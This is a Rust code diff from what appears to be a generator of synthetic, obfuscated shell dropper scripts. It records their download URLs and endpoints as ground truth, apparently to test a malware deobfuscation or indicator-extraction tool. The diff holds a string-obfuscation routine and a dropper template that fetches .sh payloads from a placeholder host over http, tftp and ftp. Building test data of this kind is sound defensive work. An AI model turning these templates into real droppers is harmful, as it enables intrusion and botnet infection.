@@ -74,7 +74,7 @@ pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
                 text.chars().filter_map(|it| table.find(it)).map(|at| at.to_string()).collect();
             let _ = writeln!(
                 before,
-                "{name}='{table}'; {other}=\nfor i in {}; do {other}=$other${{{name}:$i:1}}; done",
+                "{name}='{table}'; {other}=\nfor i in {}; do {other}=${other}${{{name}:$i:1}}; done",
                 list.join(" ")
             );
             format!("\"${other}\"")
@@ -106,7 +106,8 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
             truth.urls.insert(format!("http://{host}/{file}.sh"));
             truth.urls.insert(format!("tftp://{host}/t{file}.sh"));
             truth.urls.insert(format!("tftp://{host}/u{file}.sh"));
-            truth.urls.insert(format!("ftp://{host}/f{file}.sh"));
+            truth.urls.insert(format!("ftp://anonymous:anonymous@{host}/f{file}.sh"));
+            truth.endpoints.insert((host.clone(), 21));
             put(
                 "s=@H@
 cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
